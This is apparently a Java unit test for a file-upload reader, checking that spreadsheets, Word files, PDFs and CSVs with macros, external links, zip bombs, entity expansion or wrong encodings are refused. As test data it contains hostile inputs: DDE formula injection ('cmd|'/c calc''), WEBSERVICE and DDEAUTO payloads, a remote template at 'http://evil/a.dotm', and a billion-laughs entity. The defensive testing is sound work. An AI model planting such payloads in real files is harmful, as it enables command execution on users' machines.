package vn.baophu.targets.file;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static vn.baophu.targets.file.FileRefusal.FILE_DAMAGED;
import static vn.baophu.targets.file.FileRefusal.FILE_EMPTY;
import static vn.baophu.targets.file.FileRefusal.FILE_ENCRYPTED;
import static vn.baophu.targets.file.FileRefusal.FILE_KIND_UNKNOWN;
import static vn.baophu.targets.file.FileRefusal.FILE_LEGACY;
import static vn.baophu.targets.file.FileRefusal.FILE_POINTS_OUTSIDE;
import static vn.baophu.targets.file.FileRefusal.FILE_UNPACKS_TOO_LARGE;
import static vn.baophu.targets.file.FileRefusal.FILE_WITH_MACROS;
import static vn.baophu.targets.file.FileRefusal.PDF_WITHOUT_FIGURES;
import static vn.baophu.targets.file.FileRefusal.TEXT_IN_UTF16;
import static vn.baophu.targets.file.FileRefusal.TEXT_NOT_UTF8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import vn.baophu.platform.error.Refused;

class HostileFilesTest {
    private static final String SHEET = "xl/worksheets/sheet1.xml";
    private static final String CELL = "<v>1.0</v>";

    @Test
    void macros_are_refused_by_part_or_by_type_whatever_the_name_of_the_file() {
        refused(sound().with("xl/vbaProject.bin", "x").bytes(), FILE_WITH_MACROS);
        refused(
                sound().replacing("[Content_Types].xml", "spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled")
                        .bytes(),
                FILE_WITH_MACROS);
        refused(Packed.document("").with("word/vbaProject.bin", "x").bytes(), FILE_WITH_MACROS);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[1]Sheet1!A1",
                "'C:\\a\\[other.xlsx]S'!A1",
                "WEBSERVICE(\"http://x\")",
                "cmd|'/c calc'!A0",
                "HYPERLINK(A2)",
                "IMPORTDATA(\"x\")"
            })
    void a_formula_that_points_outside_is_refused_with_its_cell(String formula) {
        var file =
                sound().replacing(SHEET, CELL, "<f>" + formula + "</f><v>1</v>").bytes();

        assertThatThrownBy(() -> TablesRead.of(file)).isInstanceOfSatisfying(Refused.class, no -> {
            assertThat(no.refusal()).isEqualTo(FILE_POINTS_OUTSIDE);
            assertThat(no.faults().get(0).row()).isEqualTo(1);
            assertThat(no.faults().get(0).column()).isEqualTo("A");
        });
    }

    @Test
    void what_fetches_from_elsewhere_is_refused() {
        refused(sound().with("xl/externalLinks/externalLink1.xml", "<x/>").bytes(), FILE_POINTS_OUTSIDE);
        refused(sound().with("xl/connections.xml", "<x/>").bytes(), FILE_POINTS_OUTSIDE);
        refused(related("http://x/attachedTemplate", "http://evil/a.dotm"), FILE_POINTS_OUTSIDE);
        refused(
                Packed.document("<w:p><w:r><w:instrText> DDEAUTO c:\\\\calc </w:instrText></w:r></w:p>")
                        .bytes(),
                FILE_POINTS_OUTSIDE);
        refused("STT,Đơn vị\n1,\"=WEBSERVICE(\"\"http://x\"\")\"\n".getBytes(UTF_8), FILE_POINTS_OUTSIDE);
    }

    @Test
    void a_link_to_click_does_no_harm() {
        assertThat(TablesRead.of(related("http://x/hyperlink", "mailto:a@b.vn")))
                .isEmpty();
    }

    @Test
    void a_zip_bomb_is_refused_before_it_is_unpacked() {
        refused(sound().with("xl/media/a.xml", new byte[60_000_000]).bytes(), FILE_UNPACKS_TOO_LARGE);
        assertThat(TablesRead.of(
                        sound().with("xl/media/b.xml", noise(5_000_000)).bytes()))
                .hasSize(1);
    }

    @Test
    void entities_are_not_followed() {
        var bomb = "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]><worksheet>&b;</worksheet>";

        refused(sound().with(SHEET, bomb).bytes(), FILE_DAMAGED);
    }

    @Test
    void protected_old_and_broken_files_are_told_apart() throws IOException {
        var ole = new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
        var locked = Arrays.copyOf(ole, 2_000);
        var mark = "EncryptedPackage".getBytes(UTF_16LE);
        System.arraycopy(mark, 0, locked, 1_200, mark.length);

        refused(locked, FILE_ENCRYPTED);
        refused(Arrays.copyOf(ole, 2_000), FILE_LEGACY);
        refused(pdf(true), FILE_ENCRYPTED);
        refused(pdf(false), PDF_WITHOUT_FIGURES);
        refused("%PDF-1.7 no more".getBytes(UTF_8), FILE_DAMAGED);
        refused(Arrays.copyOf(sound().bytes(), 900), FILE_DAMAGED);
        refused(sound().with(SHEET, "<worksheet><sheetData>").bytes(), FILE_DAMAGED);
        refused(zip("a.txt"), FILE_KIND_UNKNOWN);
        refused(new byte[0], FILE_EMPTY);
    }

    @Test
    void text_in_another_encoding_is_named() {
        refused("STT,Đơn vị".getBytes(UTF_16), TEXT_IN_UTF16);
        refused("STT,Đơn vị".getBytes(UTF_16LE), TEXT_IN_UTF16);
        refused("STT,Xã Vĩnh Hà".replace("ĩ", "i").getBytes(ISO_8859_1), TEXT_NOT_UTF8);
    }

    @Test
    void nothing_stays_on_the_disk() throws IOException {
        var before = leftOvers();

        TablesRead.of("STT,Đơn vị\n1,Hồ Xá\n".getBytes(UTF_8));
        refused(zip("a.txt"), FILE_KIND_UNKNOWN);

        assertThat(leftOvers()).isEqualTo(before);
    }

    private static long leftOvers() throws IOException {
        try (var files = Files.list(Path.of(System.getProperty("java.io.tmpdir")))) {
            return files.filter(file -> file.getFileName().toString().startsWith("baophu-table-"))
                    .count();
        }
    }

    private static void refused(byte[] file, FileRefusal refusal) {
        assertThatThrownBy(() -> TablesRead.of(file))
                .isInstanceOfSatisfying(
                        Refused.class, no -> assertThat(no.refusal()).isEqualTo(refusal));
    }

    private static Packed sound() {
        try (var workbook = new XSSFWorkbook()) {
            workbook.createSheet("A").createRow(0).createCell(0).setCellValue(1);
            return Packed.workbook(workbook);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    private static byte[] related(String type, String target) {
        return Packed.document("")
                .with("word/_rels/document.xml.rels", """
                        <Relationships><Relationship Id="r1" Type="%s" TargetMode="External" Target="%s"/></Relationships>""".formatted(type, target))
                .bytes();
    }

    private static byte[] zip(String part) {
        return Packed.of(new byte[0]).with(part, "x").bytes();
    }

    private static byte[] noise(int length) {
        var bytes = new byte[length];
        new java.util.Random(1).nextBytes(bytes);
        return bytes;
    }

    private static byte[] pdf(boolean locked) throws IOException {
        try (var pdf = new PDDocument();
                var bytes = new ByteArrayOutputStream()) {
            pdf.addPage(new PDPage());
            if (locked) {
                pdf.protect(new StandardProtectionPolicy("owner", "user", new AccessPermission()));
            }
            pdf.save(bytes);
            return bytes.toByteArray();
        }
    }
}
